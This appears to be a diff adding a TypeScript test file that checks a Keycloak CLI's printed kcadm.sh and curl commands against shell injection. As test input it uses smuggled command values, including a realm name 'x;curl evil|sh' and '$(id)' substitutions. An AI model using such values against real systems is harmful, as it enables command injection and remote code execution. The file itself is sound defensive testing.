@@ -1,0 +1,72 @@
+import assert from 'node:assert/strict';
+import { readdirSync, readFileSync } from 'node:fs';
+import { test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import {
+  kcadm,
+  kcadmDelete,
+  kcadmRealm,
+  kcadmServer,
+  kcadmServiceRole,
+} from '../../packages/cli/src/doctor/kcadm.ts';
+import { judgeStranger } from '../../packages/cli/src/keycloak/judge-stranger.ts';
+import { readProgram, type SyntaxNode, walk } from '../../packages/cli/src/source/syntax.ts';
+
+// Commands that are printed to be copied into a shell. A realm, a client and an address can be those of a cloned repository.
+
+const SOURCES = fileURLToPath(new URL('../../packages/cli/src', import.meta.url));
+const COMMAND = /kcadm\.sh|npx keycloak-guard|curl -i/;
+/** Words of a shell already: `$(kcadm.sh …)`, a uuid in a path, a setting that this program chose. */
+const READY = [
+  'path',
+  'setting',
+  'flags',
+  'account',
+  'role',
+  'realmWord',
+  'queryWord',
+  'clientWord',
+  'imports',
+];
+
+test('hold what others chose as words that run nothing', () => {
+  const caller = { realm: 'x;curl evil|sh', clientId: "y'$(id)" };
+  const reach = { caller } as never;
+  const url = 'http://keycloak/$(id)/realms/x;id';
+  const answer = { url, status: 502, headers: new Headers(), text: '<p>', tookMs: 1, arrivedAt: 0 };
+  const all = [
+    kcadm(reach, `redirectUris+=http://x/'$(id)'`),
+    kcadmServer(reach, 'a=b'),
+    kcadmDelete(reach, 'policy/7'),
+    kcadmRealm(caller.realm, 'enabled=true'),
+    kcadmServiceRole(reach, 'uma_protection'),
+    judgeStranger(answer)?.fix ?? '',
+  ];
+  for (const one of all) {
+    const bare = one.replace(/'[^']*'|\\'/g, '').replace(/\$\(kcadm\.sh get clients [^()]*\)/, '');
+    assert.doesNotMatch(bare, /[;|&`]|\$\(/, one);
+  }
+});
+
+test('are made of such words wherever they are made', () => {
+  const found: string[] = [];
+  for (const file of readdirSync(SOURCES, { recursive: true, encoding: 'utf8' })) {
+    if (!file.endsWith('.ts')) continue;
+    const program = readProgram(readFileSync(`${SOURCES}/${file}`, 'utf8'), file);
+    for (const { node } of walk(program as SyntaxNode)) {
+      if (node.type !== 'TemplateLiteral') continue;
+      const quasis = node.quasis as { value: { raw: string } }[];
+      let isCommand = false;
+      for (const [at, one] of (node.expressions as SyntaxNode[]).entries()) {
+        const before = quasis[at]?.value.raw ?? '';
+        // A command ends with its line.
+        isCommand =
+          COMMAND.test(before.slice(before.lastIndexOf('\\n') + 1)) || (isCommand && !before.includes('\\n'));
+        const isName = one.type === 'Identifier' && !READY.includes(String(one.name));
+        if (isCommand && (isName || one.type === 'MemberExpression'))
+          found.push(`${file}:${one.loc.start.line}`);
+      }
+    }
+  }
+  assert.deepEqual(found, []);
+});
